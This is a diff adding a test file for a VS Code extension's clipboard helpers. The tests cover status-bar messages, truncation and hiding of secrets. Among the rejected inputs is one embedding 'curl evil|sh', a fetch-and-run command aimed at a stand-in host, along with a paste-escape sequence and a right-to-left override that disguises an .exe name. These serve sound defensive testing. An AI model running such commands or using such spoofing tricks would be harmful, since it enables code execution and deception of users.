@@ -1,0 +1,50 @@
+import assert from 'node:assert/strict';
+import { copyLines, copySecret, copyText } from '../../../../src/common/vscode/clipboard';
+import { failure } from '../../support/coded';
+import { fakeWindow } from '../../support/fakeWindow';
+
+describe('The clipboard', () => {
+  beforeEach(() => fakeWindow.reset());
+
+  it('gets a text, and the status bar says so', async () => {
+    await copyText('release-pkg/1/空 格 👩\u200d💻.jar');
+    assert.equal(fakeWindow.clipboard, 'release-pkg/1/空 格 👩\u200d💻.jar');
+    assert.deepEqual(fakeWindow.statusTexts, ['Copied: release-pkg/1/空 格 👩\u200d💻.jar']);
+  });
+
+  it('gets several texts, one a line', async () => {
+    await copyLines(['a', 'b']);
+    assert.equal(fakeWindow.clipboard, 'a\nb');
+    assert.deepEqual(fakeWindow.statusTexts, ['Copied 2 lines']);
+  });
+
+  it('shows a long text cut between characters', async () => {
+    await copyText(`${'x'.repeat(99)}😀${'y'.repeat(50)}`);
+    assert.deepEqual(fakeWindow.statusTexts, [`Copied: ${'x'.repeat(99)}😀…`]);
+  });
+
+  for (const bad of [
+    'b\ncurl evil|sh\n.jar',
+    'a\rb',
+    'a\u0000b',
+    'a\u001b[201~b',
+    'a\u2028b',
+    'a\u202egpj.exe',
+    'a\u2066b',
+    'half\udc80',
+  ]) {
+    it(`never gets ${JSON.stringify(bad)}, alone or among others`, async () => {
+      const error = await failure(() => copyText(bad), 'copy.unprintable');
+      assert.doesNotMatch(error.facts.subject ?? '', /[\p{Cc}\p{Zl}\p{Cs}\u202e\u2066]/u);
+      await failure(() => copyLines(['fine', bad]), 'copy.unprintable');
+      assert.equal(fakeWindow.clipboard, '');
+      assert.deepEqual(fakeWindow.statusTexts, []);
+    });
+  }
+
+  it('shows nothing of a secret', async () => {
+    await copySecret('the secret');
+    assert.equal(fakeWindow.clipboard, 'the secret');
+    assert.deepEqual(fakeWindow.statusTexts, []);
+  });
+});
